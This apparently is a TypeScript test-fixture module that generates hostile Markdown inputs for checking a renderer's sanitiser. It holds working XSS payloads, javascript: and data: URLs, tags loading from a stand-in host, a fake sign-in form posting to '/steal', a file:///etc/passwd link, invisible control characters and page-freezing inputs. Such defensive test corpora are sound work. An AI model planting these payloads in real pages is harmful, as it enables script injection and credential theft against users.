const ACT = 'globalThis.hacked=true'
const EVIL = 'http://127.0.0.1:9'

/** What would act or fetch where a page took it for markup. */
const MARKUP = [
  `<script>${ACT}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script type=module>import("${EVIL}/x.js")</script>`,
  `<img src=x onerror="${ACT}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<picture><source srcset="${EVIL}/b.png"><img></picture>`,
  `<svg onload="${ACT}"></svg>`,
  `<svg><image href="${EVIL}/c.svg"/></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${EVIL}/d.svg#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${ACT}">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=true</script>"></iframe>`,
  `<object data="${EVIL}/o"></object>`,
  `<embed src="${EVIL}/e">`,
  `<video src="${EVIL}/v.mp4" autoplay onplay="${ACT}"></video>`,
  `<audio src=x onerror="${ACT}"></audio>`,
  `<link rel=stylesheet href="${EVIL}/s.css">`,
  `<link rel=prefetch href="${EVIL}/p">`,
  '<style>*{display:none!important}</style>',
  `<style>@import "${EVIL}/i.css";</style>`,
  `<div style="background:url(${EVIL}/bg.png);position:fixed;inset:0">over all</div>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
  `<form action="${EVIL}/steal"><input name=password autofocus><button>Sign in</button></form>`,
  `<details open ontoggle="${ACT}">x</details>`,
  `<input autofocus onfocus="${ACT}">`,
  `<body onload="${ACT}">`,
  `<a href="javascript:${ACT}">x</a>`,
  `<marquee onstart="${ACT}">x</marquee>`,
  `<template><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<![CDATA[><img src=x onerror=${ACT}>]]>`,
  `<x-y is="script" onclick="${ACT}">x</x-y>`,
  `"><img src=x onerror=${ACT}>`,
  `</p></div></main><script>${ACT}</script>`,
  `&lt;img src=x onerror=${ACT}&gt;`,
  `&#60;script&#62;${ACT}&#60;/script&#62;`,
]

/** Where a link would act, or a picture tell that it was seen. */
const ADDRESSES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `javascript&colon;${ACT}`,
  `java\tscript:${ACT}`,
  `&#106;avascript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `javascript://%0a${ACT}`,
  `vbscript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'blob:null/x',
  'file:///etc/passwd',
  'intent://x#Intent;end',
  '//127.0.0.1:9/x',
  '/api/account/export',
  `https://user:secret@127.0.0.1:9/`,
  `${EVIL}/pixel.png`,
  `${EVIL}/" onmouseover="${ACT}`,
]

const IN_MARKUP: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `# ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `- [x] **${payload}**`,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `\`\`\`${payload.replaceAll('`', '')}\n${payload}\n\`\`\``,
]
const IN_ADDRESS: ((address: string) => string)[] = [
  (address) => `[press me](${address})`,
  (address) => `[press me](<${address}> "a title")`,
  (address) => `![a picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[press me][to]\n\n[to]: ${address}`,
  (address) => `[![a picture](${address})](${address})`,
]
const UNSEEN = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\u0007',
  '\u001b[31m',
  '\u009b',
  '\u00ad',
  '\u2028',
  '\u{e0041}',
]

/** Each a piece of Markdown by itself. */
export const HOSTILE_WORDS: readonly string[] = [
  ...MARKUP.flatMap((payload) => IN_MARKUP.map((around) => around(payload))),
  ...ADDRESSES.flatMap((address) => IN_ADDRESS.map((around) => around(address))),
  ...UNSEEN.flatMap((unseen) => [
    `a${unseen}b`,
    `\`${unseen}\``,
    `[a${unseen}](https://example.com/${unseen})`,
  ]),
]

/** What would keep a page busy for long. */
export const HEAVY_WORDS: readonly string[] = [
  Array.from({ length: 800 }, (_, level) => `${'  '.repeat(level)}- a`).join('\n'),
  '>'.repeat(40_000),
  '['.repeat(40_000),
  `${'x'.repeat(300_000)}\n\nThe end.`,
]
